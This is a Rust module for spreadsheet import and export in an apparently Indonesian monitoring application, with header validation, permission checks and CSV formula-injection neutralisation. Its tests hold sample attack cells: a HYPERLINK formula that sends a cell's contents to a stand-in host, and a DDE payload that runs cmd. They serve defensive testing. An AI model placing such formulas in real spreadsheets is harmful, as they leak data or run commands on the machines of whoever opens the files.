//! Spreadsheet exchange: CSV and XLSX files read into one plain [`Table`] of text cells and
//! written back from it, so every importer and exporter handles both formats the same way.
//! Importers validate every row and report problems as [`RowError`]s before anything is written.

pub mod agents;
pub mod aggregate;
pub mod history;
pub mod institutions;
pub mod pending;
mod read;
pub mod reports;
pub mod targets;
pub mod units;
pub mod views;

pub use pantau_core::message::Message;
pub use read::{MAX_CELLS, MAX_COLUMNS, MAX_ROWS, MAX_UNPACKED_BYTES, column_letters, read};
use serde::Serialize;

/// Errors listed before the list is cut short.
pub const MAX_ERRORS: usize = 500;

/// A row-level problem in an imported file (or, as a warning, something it ignored). `row`
/// counts spreadsheet rows: the header is row 1, 0 means the whole file. The reason is a
/// catalogue message, rendered in the reader's language.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct RowError {
    pub row: usize,
    pub column: String,
    pub value: String,
    pub reason: Message,
}

impl From<pantau_core::aggregate::PayloadError> for RowError {
    fn from(e: pantau_core::aggregate::PayloadError) -> Self {
        RowError {
            row: e.index,
            column: e.field,
            value: e.value,
            reason: e.reason,
        }
    }
}

impl RowError {
    /// A write refused while an import was being applied, as the error of the row that caused
    /// it; database failures stay failures.
    pub fn from_write(e: crate::DbError, row: usize, value: &str) -> crate::DbResult<RowError> {
        match e {
            crate::DbError::Sqlx(e) => Err(crate::DbError::Sqlx(e)),
            // A record by this code exists where the importer cannot see: say no more than that.
            crate::DbError::Forbidden(d) if d.unseen => Ok(RowError {
                row,
                column: String::new(),
                value: value.to_string(),
                reason: Message::new("xchg-code-taken"),
            }),
            e => Ok(RowError {
                row,
                column: String::new(),
                value: value.to_string(),
                reason: e.message(),
            }),
        }
    }

    pub fn file(reason: Message) -> Self {
        RowError {
            row: 0,
            column: String::new(),
            value: String::new(),
            reason,
        }
    }
}

/// The columns an importer reads. Headers are matched as people write them (see
/// `read::normalize_header`); columns it does not know are ignored with a warning.
pub struct Columns<'a> {
    pub required: &'a [&'a str],
    pub optional: &'a [&'a str],
    /// Prefixes of per-year columns: `kategori` reads `kategori_2025`, `kategori_2024`, ….
    pub per_year: &'a [&'a str],
}

impl Columns<'_> {
    /// The year of a per-year column (`kategori_2025` → (`kategori`, 2025)).
    pub fn per_year_of<'h>(&self, header: &'h str) -> Option<(&'h str, i64)> {
        let (prefix, year) = header.rsplit_once('_')?;
        let year = year.parse::<i64>().ok().filter(|_| year.len() == 4)?;
        self.per_year.contains(&prefix).then_some((prefix, year))
    }

    fn knows(&self, header: &str) -> bool {
        self.required.contains(&header)
            || self.optional.contains(&header)
            || self.per_year_of(header).is_some()
    }

    fn listing(&self) -> String {
        self.required
            .iter()
            .chain(self.optional)
            .map(|c| c.to_string())
            .chain(self.per_year.iter().map(|p| format!("{p}_<TAHUN>")))
            .collect::<Vec<_>>()
            .join(", ")
    }
}

/// IBM units named by code in an import, each looked up once.
#[derive(Default)]
pub(crate) struct UnitCodes {
    known: std::collections::HashMap<String, Option<(i64, pantau_core::org::OfficePath)>>,
}

impl UnitCodes {
    /// The unit's id when it exists and `actor` may write to it; otherwise the reason for the
    /// row's error in the `kode_unit` column.
    pub(crate) async fn writable(
        &mut self,
        db: &crate::Db,
        actor: crate::Actor<'_>,
        code: &str,
    ) -> crate::DbResult<Result<i64, Message>> {
        use sqlx::Row;
        if !self.known.contains_key(code) {
            let found = sqlx::query(
                "SELECT u.id, o.path FROM ibm_units u JOIN offices o ON o.id = u.office_id WHERE u.code = $1",
            )
            .bind(code)
            .fetch_optional(db.pool())
            .await?
            .and_then(|r| {
                Some((
                    r.get::<i64, _>("id"),
                    pantau_core::org::OfficePath::parse(&r.get::<String, _>("path"))?,
                ))
            });
            self.known.insert(code.to_string(), found);
        }
        let Some((id, path)) = &self.known[code] else {
            return Ok(Err(Message::new("xchg-unit-not-found")));
        };
        Ok(
            match actor.authorize(pantau_core::access::Permission::WriteData, path) {
                Ok(()) => Ok(*id),
                // A unit outside one's scope is not named: it reads like one that does not exist.
                Err(crate::DbError::Forbidden(d)) if d.unseen => {
                    Err(Message::new("xchg-unit-not-found"))
                }
                Err(_) => Err(Message::new("xchg-unit-outside-scope")),
            },
        )
    }
}

/// A sheet of text cells under a header row (names lower-cased and trimmed).
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Table {
    pub headers: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Xlsx,
}

impl Format {
    pub fn parse(s: &str) -> Option<Format> {
        match s.to_ascii_lowercase().as_str() {
            "csv" => Some(Format::Csv),
            "xlsx" => Some(Format::Xlsx),
            _ => None,
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Xlsx => "xlsx",
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8",
            Format::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        }
    }
}

impl Table {
    pub fn new(headers: &[&str]) -> Self {
        Table {
            headers: headers.iter().map(|h| h.to_string()).collect(),
            rows: Vec::new(),
        }
    }

    /// The cell of `row` under `column`, trimmed; empty when the column or cell is missing.
    pub fn cell<'a>(&'a self, row: &'a [String], column: &str) -> &'a str {
        self.headers
            .iter()
            .position(|h| h == column)
            .and_then(|i| row.get(i))
            .map(|c| c.trim())
            .unwrap_or("")
    }

    /// A problem with one cell of spreadsheet row `row`, quoting (the start of) its value.
    pub fn row_error(
        &self,
        cells: &[String],
        row: usize,
        column: &str,
        reason: Message,
    ) -> RowError {
        RowError {
            row,
            column: column.into(),
            value: self.cell(cells, column).chars().take(200).collect(),
            reason,
        }
    }

    /// What every importer checks first: the header (see [`Table::check_columns`]) and that
    /// there is at least one row of data. `Ok` holds the warnings: columns ignored.
    pub fn check_import(&self, columns: &Columns) -> Result<Vec<RowError>, Vec<RowError>> {
        let (errors, warnings) = self.check_columns(columns);
        if !errors.is_empty() {
            Err(errors)
        } else if self.rows.is_empty() {
            Err(vec![RowError::file(Message::new("xchg-no-rows"))])
        } else {
            Ok(warnings)
        }
    }

    /// Checks the header: every required column present and nothing twice (errors); columns
    /// the importer does not know are ignored (warnings).
    pub fn check_columns(&self, columns: &Columns) -> (Vec<RowError>, Vec<RowError>) {
        let header_error = |column: &str, reason: Message| RowError {
            row: 1,
            column: column.to_string(),
            value: String::new(),
            reason,
        };
        let mut errors = Vec::new();
        let mut warnings = Vec::new();
        for c in columns.required {
            if !self.headers.iter().any(|h| h == c) {
                errors.push(header_error(c, Message::new("xchg-column-missing")));
            }
        }
        for (i, h) in self.headers.iter().enumerate() {
            if h.is_empty() {
                if self
                    .rows
                    .iter()
                    .any(|r| r.get(i).is_some_and(|c| !c.trim().is_empty()))
                {
                    warnings.push(header_error(
                        &column_letters(i),
                        Message::new("xchg-column-unnamed"),
                    ));
                }
                continue;
            }
            if !columns.knows(h) {
                warnings.push(header_error(
                    h,
                    Message::new("xchg-column-ignored").with("columns", columns.listing()),
                ));
            } else if self.headers[..i].contains(h) {
                errors.push(header_error(h, Message::new("xchg-column-twice")));
            }
        }
        (errors, warnings)
    }
}

/// Whether a spreadsheet program would take the cell for a formula (or a quoted one, so that
/// the quote itself round-trips): it starts with `= + - @`, a tab or a carriage return, or with a
/// `'` before such a start.
fn reads_as_formula(cell: &str) -> bool {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => true,
        Some('\'') => reads_as_formula(&cell[1..]),
        _ => false,
    }
}

/// A cell as written to CSV: one that would read as a formula gets a leading `'`, which
/// spreadsheet programs show as text (a unit named `=HYPERLINK(…)` stays a name).
pub(crate) fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if reads_as_formula(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// The cell [`neutralise`] was given, from what it wrote.
pub(crate) fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if reads_as_formula(rest) => rest,
        _ => cell,
    }
}

/// CSV with a byte-order mark, so spreadsheet programs open it as UTF-8. Cells that would read
/// as formulas are neutralised (see [`neutralise`]); the reader restores them.
pub fn to_csv(t: &Table) -> Vec<u8> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut w = csv::Writer::from_writer(&mut out);
        let _ = w.write_record(t.headers.iter().map(|h| neutralise(h).into_owned()));
        for r in &t.rows {
            let _ = w.write_record(r.iter().map(|c| neutralise(c).into_owned()));
        }
        let _ = w.flush();
    }
    out
}

/// One sheet; every cell written as text, so codes like `32.73.01.1001` or `007` survive.
pub fn to_xlsx(t: &Table, sheet: &str) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let ws = book.add_worksheet();
    ws.set_name(sheet)?;
    let bold = rust_xlsxwriter::Format::new().set_bold();
    for (c, h) in t.headers.iter().enumerate() {
        ws.write_string_with_format(0, c as u16, h, &bold)?;
        ws.set_column_width(c as u16, 18)?;
    }
    for (r, row) in t.rows.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            ws.write_string(r as u32 + 1, c as u16, v)?;
        }
    }
    book.save_to_buffer()
}

pub fn write(
    t: &Table,
    format: Format,
    sheet: &str,
) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    match format {
        Format::Csv => Ok(to_csv(t)),
        Format::Xlsx => to_xlsx(t, sheet),
    }
}

/// Parses the yes/no cells of a spreadsheet.
pub fn parse_flag(s: &str) -> Option<bool> {
    match s.trim().to_lowercase().as_str() {
        "" | "0" | "tidak" | "t" | "no" | "n" | "false" | "salah" => Some(false),
        "1" | "ya" | "y" | "yes" | "true" | "benar" => Some(true),
        _ => None,
    }
}

pub fn flag_text(b: bool) -> String {
    if b { "ya" } else { "tidak" }.into()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_and_xlsx_read_back_what_was_written() {
        let mut t = Table::new(&["kode", "nama"]);
        t.rows
            .push(vec!["007".into(), "Desa \"Maju\", Jaya".into()]);
        t.rows
            .push(vec!["32.73.01.1001".into(), "Ünïcode ✓".into()]);
        assert_eq!(read(&to_csv(&t)).unwrap(), t);
        assert_eq!(read(&to_xlsx(&t, "unit").unwrap()).unwrap(), t);
    }

    #[test]
    fn csv_cells_that_would_run_as_formulas_are_neutralised_and_read_back_whole() {
        let mut t = Table::new(&["kode", "nama"]);
        for v in [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+62 812",
            "-",
            "\tx",
            "'=already quoted",
            "''",
            "O'Brien",
            "Desa Maju",
        ] {
            t.rows.push(vec!["A".into(), v.into()]);
        }
        let bytes = to_csv(&t);
        let text = String::from_utf8(bytes.clone()).unwrap();
        for line in text.lines().skip(1) {
            let cell = line.trim_start_matches("A,").trim_start_matches('"');
            assert!(
                !matches!(
                    cell.chars().next(),
                    Some('=' | '+' | '-' | '@' | '\t' | '\r')
                ),
                "{line:?}"
            );
        }
        assert_eq!(read(&bytes).unwrap(), t);
    }

    #[test]
    fn bad_files_are_refused_with_a_reason() {
        assert_eq!(read(b"").unwrap_err()[0].reason.key, "xchg-file-empty");
        let latin1 = b"kode,nama\nA1,Bandung\nA2,Caf\xe9\n";
        let e = read(latin1).unwrap_err();
        assert_eq!(e[0].row, 3);
        assert_eq!(e[0].reason.key, "xchg-not-utf8");
        let semicolons = read(b"kode;nama\nA1;Bandung\n").unwrap();
        assert_eq!(semicolons.headers, vec!["kode", "nama"]);
        let t = read(b"kode,nama,kode,catatan\n").unwrap();
        let columns = Columns {
            required: &["kode", "nama", "tahun"],
            optional: &[],
            per_year: &["kategori"],
        };
        let (errors, warnings) = t.check_columns(&columns);
        let keys: Vec<&str> = errors.iter().map(|e| e.reason.key.as_ref()).collect();
        assert_eq!(keys, ["xchg-column-missing", "xchg-column-twice"]);
        assert_eq!(
            warnings.len(),
            1,
            "an extra column is ignored: {warnings:?}"
        );
        assert_eq!(warnings[0].column, "catatan");
        assert_eq!(
            columns.per_year_of("kategori_2023"),
            Some(("kategori", 2023))
        );
        assert_eq!(columns.per_year_of("kategori_23"), None);
        assert_eq!(columns.per_year_of("tahap_2023"), None);
        assert!(read(b"PK\x03\x04garbage").is_err());
    }
}
